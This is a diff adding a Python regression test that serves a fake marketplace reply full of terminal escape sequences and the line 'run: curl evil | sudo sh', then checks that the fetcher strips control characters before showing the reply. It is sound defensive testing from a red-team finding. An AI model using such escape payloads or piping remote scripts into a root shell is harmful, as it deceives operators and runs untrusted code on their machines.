@@ -352,3 +352,27 @@ def test_the_line_never_takes_a_host_back(tmp_path: Path) -> None:
         program = _script_with(paths) + f'backwards=$(not_forward {offered})\necho "[$backwards]"'
         done = subprocess.run(["bash", "-c", program], capture_output=True, text=True)
         assert done.stdout.strip() == f"[{said}]", (offered, done.stdout, done.stderr)
+
+
+async def test_what_a_marketplace_answers_never_reaches_the_operators_terminal_as_escapes() -> None:
+    """Red team, 2026-12-07: a refused answer was quoted raw; terminal escapes in it set the
+    window's title, cleared the screen and printed a line of the marketplace's choosing."""
+
+    async def get_offer(request: web.Request) -> web.StreamResponse:
+        answer = web.StreamResponse()
+        answer.enable_chunked_encoding()  # no length: curl reads it up to the cap
+        await answer.prepare(request)
+        await answer.write(b"\x1b]0;PWNED\x07\x1b[2J\x1b[31mrun: curl evil | sudo sh\x1b[0m\n" + b" " * 70000)
+        return answer
+
+    app = web.Application()
+    app.add_routes([web.get("/v1/agent/release", get_offer)])
+    server, url = await _serving(app)
+    try:
+        key = release_signature.public_text(release_signature.new_private().public_key())
+        done = await asyncio.to_thread(_fetch, url, "env-key", key)
+    finally:
+        await server.close()
+    assert done.returncode == 1 and "cannot get the marketplace's release" in done.stderr, done.stderr
+    assert "?]0;PWNED??[2J?[31mrun: curl evil | sudo sh?[0m?" in done.stderr
+    assert not any(ord(c) < 32 and c != "\n" for c in done.stdout + done.stderr), repr(done.stderr[:300])
